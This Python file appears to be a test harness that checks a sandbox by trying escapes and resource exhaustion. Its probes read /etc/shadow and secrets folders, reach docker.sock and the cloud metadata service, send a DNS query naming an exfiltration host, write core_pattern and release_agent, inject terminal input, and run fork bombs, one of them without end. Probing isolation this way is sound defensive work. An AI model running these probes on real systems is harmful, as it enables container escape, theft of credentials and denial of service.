"""What a hostile script tries. Each attack returns what it got, or fails as the system lets it fail.

`inputs["attacks"]` are tried one after the other, each in a process of its own; `inputs["attack"]` is tried here.
"""

import ctypes
import errno
import os
import signal
import socket
import struct
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
SYSCALLS = {
    "x86_64": {"bpf": 321, "io_uring_setup": 425, "userfaultfd": 323, "keyctl": 250, "add_key": 248, "unshare": 272,
               "setns": 308, "ptrace": 101, "process_vm_readv": 310, "perf_event_open": 298, "clone3": 435,
               "memfd_create": 319, "open_tree": 428, "init_module": 175, "kexec_load": 246, "personality": 135},
    "aarch64": {"bpf": 280, "io_uring_setup": 425, "userfaultfd": 282, "keyctl": 219, "add_key": 217, "unshare": 97,
                "setns": 268, "ptrace": 117, "process_vm_readv": 270, "perf_event_open": 241, "clone3": 435,
                "memfd_create": 279, "open_tree": 428, "init_module": 105, "kexec_load": 104, "personality": 92},
}


class Stopped(Exception):
    """Nothing was got, and no call has failed."""


def call(result, what):
    """The result of a call of the C library, or its error."""
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, f"{what}: {os.strerror(number)}")
    return result


def syscall(name, *arguments):
    number = SYSCALLS[os.uname().machine][name]
    return call(libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]), name)


def first_that_works(attempts):
    """What the first attempt that works got; else the errors of all."""
    errors = []
    for name, attempt in attempts:
        try:
            got = attempt()
            if got:
                return f"{name}: {got}"
            errors.append(f"{name}: nothing")
        except (OSError, ValueError) as error:
            errors.append(f"{name}: {error.strerror if isinstance(error, OSError) and error.strerror else error}")
    raise Stopped("; ".join(dict.fromkeys(errors)))


def other_processes(inputs):
    """Those that are neither the sandbox's own nor came of us, by their names."""
    ours = {"bwrap", "sh", "dash", "bash", "python3", "node"}
    names = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/comm") as file:
                    names[pid] = file.read().strip()
            except OSError:
                pass
    strangers = sorted({name for name in names.values() if name not in ours and not name.startswith("python3.")})
    if strangers:
        return f"{len(names)} processes, such as {strangers[:3]}"
    raise Stopped(f"sees {len(names)} processes, all of the sandbox")


def signals(inputs):
    os.kill(inputs.get("pid", 2**22 - 2), 0)
    return "a process outside can be signalled"


def environment(inputs):
    allowed = {"PATH", "LANG", "LC_ALL", "LC_CTYPE", "HOME", "TMPDIR", "SCIHOME", "MPLBACKEND", "MPLCONFIGDIR", "PWD", "SHLVL", "_",
               "OLDPWD", "HOSTNAME"}
    seen = set(os.environ)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as file:
                    seen |= {part.split(b"=")[0].decode("utf-8", "replace") for part in file.read().split(b"\0") if part}
            except OSError:
                pass
    if seen - allowed:
        return f"variables of others: {sorted(seen - allowed)[:5]}"
    raise Stopped("only its own variables")


def host_files(inputs):
    def read(path):
        def attempt():
            if os.path.isdir(path):
                return os.listdir(path) and f"{os.listdir(path)[:3]}"
            with open(path, "rb") as file:
                return file.read(40)
        return attempt
    paths = ["/etc/shadow", "/root", "/home", "/var/run/secrets", "/run/secrets", "/proc/1/root/etc/shadow", "/proc/kcore"]
    return first_that_works((path, read(path)) for path in inputs.get("host_files", []) + paths)


def sockets_of_the_host(inputs):
    def connect(path):
        def attempt():
            with socket.socket(socket.AF_UNIX) as one:
                one.connect(path)
            return "connected"
        return attempt
    paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
             "/run/systemd/private"]
    return first_that_works((path, connect(path)) for path in inputs.get("sockets", []) + paths)


def abstract_sockets(inputs):
    """Sockets without a file belong to the network."""
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0" + inputs.get("abstract", "procos-nobody"))
    return "connected to a socket without a file"


def metadata(inputs):
    with socket.create_connection((inputs.get("metadata", "169.254.169.254"), inputs.get("metadata_port", 80)), timeout=2) as one:
        one.sendall(b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")
        return f"the metadata service answers {one.recv(100)!r}"


def dns(inputs):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(2)
        question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\7exfiltr\7example\0" + struct.pack(">2H", 1, 1)
        one.sendto(question, (inputs.get("dns", "169.254.169.253"), inputs.get("dns_port", 53)))
        return f"the name server answers {one.recv(100)!r}"


def loopback(inputs):
    with socket.create_connection(("127.0.0.1", inputs.get("port", 1)), timeout=2):
        return "the machine's own port"


def socket_families(inputs):
    made, errors = [], set()
    for family in range(1, 46):
        if family == socket.AF_UNIX:
            continue
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            fd = libc.socket(family, kind, 0)
            if fd >= 0:
                os.close(fd)
                made.append(family)
                break
            errors.add(ctypes.get_errno())
    if made:
        return f"families {made}"
    raise Stopped(", ".join(sorted(os.strerror(number) for number in errors)))


def write_to_root(inputs):
    def write(path):
        def attempt():
            with open(path, "w") as file:
                file.write("x")
            os.unlink(path)
            return "written"
        return attempt
    folders = ["", "/usr", "/usr/bin", "/etc", "/var/tmp", "/var", "/lib", "/dev", "/run/lock", "/proc/sys/kernel", "/sys"]
    return first_that_works((folder or "/", write(f"{folder}/procos-was-here")) for folder in folders)


def write_to_kernel(inputs):
    def write(path, text):
        def attempt():
            with open(path, "w") as file:
                file.write(text)
            return "written"
        return attempt
    return first_that_works([
        ("core_pattern", write("/proc/sys/kernel/core_pattern", "|/x")),
        ("sysrq", write("/proc/sysrq-trigger", "h")),
        ("release_agent", write("/sys/fs/cgroup/memory/release_agent", "/x")),
        ("cgroup", write("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1")),
        ("cgroup2", write("/sys/fs/cgroup/memory.max", "max")),
        ("uid_map", write("/proc/1/uid_map", "0 0 1")),
        ("oom_score", write("/proc/self/oom_score_adj", "-1000")),
    ])


def devices(inputs):
    found = []
    for name in ("mem", "kmem", "port", "kvm", "fuse", "sda", "vda", "nvme0n1", "loop0", "loop-control", "net/tun", "vhost-vsock"):
        try:
            with open(f"/dev/{name}", "rb"):
                found.append(name)
        except OSError:
            pass
    if found:
        return f"{found}"
    raise Stopped("none is there, or none can be opened")


def make_device(inputs):
    os.mknod("device", 0o600 | 0o020000, os.makedev(1, 1))
    return "a device file"


def hard_link(inputs):
    os.link(inputs["link_to"], inputs["link_to"] + ".linked")
    return f"a second name for {inputs['link_to']}"


def symbolic_link(inputs):
    os.symlink(inputs["link_to"], "link")
    with open("link", "rb") as file:
        return f"reads {file.read(40)!r}"


def become_root(inputs):
    os.setuid(0)
    return f"user {os.getuid()}"


def set_user_id_program(inputs):
    with open("/proc/self/status") as file:
        status = dict(line.split(":", 1) for line in file if ":" in line)
    if status["NoNewPrivs"].strip() != "1":
        return "programs may raise their rights"
    raise Stopped("no new privileges")


def capabilities(inputs):
    with open("/proc/self/status") as file:
        status = dict(line.split(":", 1) for line in file if ":" in line)
    have = [name for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") if int(status[name], 16)]
    if have:
        return f"{have}"
    raise Stopped("none in any set")


def is_root(inputs):
    if 0 in (os.getuid(), os.geteuid(), os.getgid()):
        return "runs as root"
    raise Stopped(f"user {os.getuid()}")


def trace(inputs):
    child = os.fork()
    if child == 0:
        time.sleep(2)
        os._exit(0)
    try:
        syscall("ptrace", 16, child, 0, 0)
        return "a process can be traced"
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def read_memory(inputs):
    buffer = ctypes.create_string_buffer(8)
    local = struct.pack("QQ", ctypes.addressof(buffer), 8)
    text = ctypes.create_string_buffer(b"secret!")
    remote = struct.pack("QQ", ctypes.addressof(text), 8)
    syscall("process_vm_readv", os.getpid(), ctypes.c_char_p(local), 1, ctypes.c_char_p(remote), 1, 0)
    return "another process's memory can be read"


def mount(inputs):
    os.makedirs("mounted", exist_ok=True)
    call(libc.mount(b"none", b"mounted", b"tmpfs", 0, None), "mount")
    return "a file system"


def new_mount_api(inputs):
    syscall("open_tree", -100, ctypes.c_char_p(b"/"), 1)
    return "a mount of its own"


def unshare(inputs):
    syscall("unshare", 0x10000000)
    return "a user namespace"


def clone_namespace(inputs):
    # The kernel's own clone, with a new user namespace and the signal for its end.
    number = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
    child = libc.syscall(ctypes.c_long(number), ctypes.c_long(0x10000000 | signal.SIGCHLD), 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    call(child, "clone")
    os.waitpid(child, 0)
    return "a process in a user namespace"


def keys(inputs):
    syscall("add_key", ctypes.c_char_p(b"user"), ctypes.c_char_p(b"procos"), ctypes.c_char_p(b"x"), 1, -2)
    return "a key in the kernel"


def bpf(inputs):
    attributes = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 8, 1) + b"\0" * 112)
    syscall("bpf", 0, attributes, 128)
    return "a map of BPF"


def io_uring(inputs):
    parameters = ctypes.create_string_buffer(120)
    syscall("io_uring_setup", 4, parameters)
    return "a ring"


def userfaultfd(inputs):
    syscall("userfaultfd", 1)
    return "page faults of its own"


def performance_counters(inputs):
    attributes = ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0) + b"\0" * 96)
    ctypes.memmove(ctypes.addressof(attributes) + 40, struct.pack("Q", 0x21 | 0x40), 8)
    syscall("perf_event_open", attributes, 0, -1, -1, 0)
    return "a counter"


def executable_memory_file(inputs):
    fd = syscall("memfd_create", ctypes.c_char_p(b"x"), 0)
    os.write(fd, b"#!/bin/sh\n")
    return "a program in memory"


def run_from_working_directory(inputs):
    with open("program", "w") as file:
        file.write("#!/bin/sh\necho ran\n")
    os.chmod("program", 0o755)
    return os.popen("./program 2>&1").read() == "ran\n" and "a program of its own runs" or _stopped("not executable")


def _stopped(why):
    raise Stopped(why)


def watch_files(inputs):
    watcher = call(libc.inotify_init(), "inotify_init")
    call(libc.inotify_add_watch(watcher, b"/usr/bin", 0x20), "inotify_add_watch")
    return "what the host runs can be watched"


def outlive_the_parent(inputs):
    call(libc.prctl(1, 0, 0, 0, 0), "prctl")
    return "no process has to end with its parent"


def inherited_files(inputs):
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if not target.startswith(("pipe:", "/dev/null", "/proc/")):
            found.append(target)
    if found:
        return f"open files of others: {found}"
    raise Stopped("only its own pipes")


def socket_pairs(inputs):
    made, errors = [], set()
    pair = (ctypes.c_int * 2)()
    for family in range(2, 46):
        if libc.socketpair(family, socket.SOCK_STREAM, 0, pair) == 0:
            made.append(family)
        errors.add(ctypes.get_errno())
    if made or errors - {errno.EAFNOSUPPORT}:
        return f"families {made}, errors {sorted(errno.errorcode.get(number, number) for number in errors)}"
    raise Stopped("not supported")


def terminal_injection(inputs):
    import fcntl
    import termios
    fcntl.ioctl(0, termios.TIOCSTI, b"x")
    return "typed"


def leave_a_file(inputs):
    """Whether what an earlier run has left is there."""
    found = os.listdir(inputs["folder"])
    with open(os.path.join(inputs["folder"], "left-by-a-run"), "w") as file:
        file.write("x")
    if "left-by-a-run" in found:
        return "the file of an earlier run"
    raise Stopped(f"{len(found)} files")


# --- What only a limit stops. ---


def memory_heap(inputs):
    got = []
    for _ in range(inputs["megabytes"]):
        got.append(bytearray(os.urandom(1024) * 1024))
    return f"{len(got)} MiB of heap"


def memory_files(inputs):
    with open("hog", "wb") as file:
        for _ in range(inputs["megabytes"]):
            file.write(b"x" * 1024 * 1024)
    return "as many MiB of files"


def memory_shared_folder(inputs):
    with open("/dev/shm/hog", "wb") as file:
        for _ in range(inputs["megabytes"]):
            file.write(b"x" * 1024 * 1024)
    return "as many MiB of shared memory in files"


def memory_shared(inputs):
    import mmap
    area = mmap.mmap(-1, inputs["megabytes"] * 1024 * 1024)
    for page in range(0, len(area), 4096):
        area[page] = 1
    return "as many MiB of shared memory"


def memory_of_many(inputs):
    """Each process is small, all together are not."""
    ready = []
    for _ in range(inputs["processes"]):
        come, go = os.pipe()
        if os.fork() == 0:
            area = bytearray(os.urandom(1024) * 1024 * (inputs["megabytes"] // inputs["processes"]))
            os.write(go, b"x")
            time.sleep(30)
            os._exit(len(area) == 0)
        os.close(go)
        ready.append(come)
    filled = sum(len(os.read(come, 1)) for come in ready)
    if filled < inputs["processes"]:
        raise Stopped(f"{filled} of {inputs['processes']} processes lived")
    time.sleep(0.2)
    return "as many MiB in small processes"


def fork_bomb(inputs):
    made = 0
    while made < inputs["processes"]:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        made += 1
    return f"{made} processes"


def fork_bomb_without_end(inputs):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def threads(inputs):
    for _ in range(inputs["processes"]):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    return f"{threading.active_count() - 1} threads"


def busy(inputs):
    while time.process_time() < inputs["seconds"]:
        pass
    return f"{inputs['seconds']} s of computing"


def asleep(inputs):
    time.sleep(inputs["seconds"])
    return f"slept {inputs['seconds']} s"


def flood_stdout(inputs):
    for _ in range(inputs["megabytes"]):
        os.write(1, b"x" * 1024 * 1024)
    return "as many MiB printed"


def flood_stderr(inputs):
    for _ in range(inputs["megabytes"]):
        os.write(2, b"x" * 1024 * 1024)
    return "as many MiB printed"


def flood_result(inputs):
    return "x" * inputs["megabytes"] * 1024 * 1024


def escape(inputs):
    """A child that has nothing to do with its parent any more, and holds its streams."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["/bin/sleep", inputs["nap"]])
        os._exit(0)
    os.wait()
    return "a child that lives on"


def main(inputs):
    if "attack" in inputs:
        return globals()[inputs["attack"]](inputs)
    results = {}
    for name in inputs["attacks"]:
        come, go = os.pipe()
        child = os.fork()
        if child == 0:
            signal.alarm(5)
            try:
                got = globals()[name](inputs)
                text = f"+{got}" if got else "-nothing"
            except BaseException as error:
                number = getattr(error, "errno", None)
                text = f"-{errno.errorcode.get(number, number)}: {error}" if number else f"-{type(error).__name__}: {error}"
            os.write(go, text.encode("utf-8", "replace")[:2000])
            os._exit(0)
        os.close(go)
        text = b""
        while part := os.read(come, 4096):
            text += part
        os.close(come)
        _, status = os.waitpid(child, 0)
        results[name] = text.decode("utf-8", "replace") or f"-ended with status {status}"
    return results
